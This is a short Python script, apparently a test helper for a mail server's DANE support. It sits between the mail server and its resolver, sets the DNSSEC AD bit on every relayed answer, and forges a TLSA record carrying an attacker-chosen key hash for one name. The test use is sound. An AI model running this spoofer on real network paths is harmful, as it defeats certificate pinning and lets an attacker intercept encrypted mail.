#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""ad_forger.py - an on-path attacker between an MTA and its upstream
validating resolver: every answer is passed on with the AD bit set, and the
TLSA query for one name is answered with a forged record (AD set too).

    ad_forger.py LISTEN-ADDR UPSTREAM-ADDR TLSA-OWNER HEX-SHA256-SPKI PIDFILE

Only what the test needs: UDP, one question per message, no compression of
the forged answer beyond a pointer to the question."""
import os
import struct
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from dnsrelay import ask, listen_udp, question  # noqa: E402

listen, upstream, owner, digest, pidfile = sys.argv[1:6]
digest = bytes.fromhex(digest)


def forged(query, end):
    head = query[:2] + struct.pack("!HHHHH", 0x81A0, 1, 1, 0, 0)  # QR RD RA AD
    rdata = bytes([3, 1, 1]) + digest
    rr = struct.pack("!HHHIH", 0xC00C, 52, 1, 60, len(rdata)) + rdata
    return head + query[12:end] + rr


s = listen_udp(listen, pidfile)
while True:
    q, peer = s.recvfrom(4096)
    try:
        name, qtype, end = question(q)
    except (IndexError, struct.error):
        continue
    if qtype == 52 and name == owner.lower().rstrip("."):
        s.sendto(forged(q, end), peer)
        continue
    r = ask(q, upstream)
    if r is None:
        continue
    r = bytearray(r)
    r[3] |= 0x20  # AD
    s.sendto(bytes(r), peer)
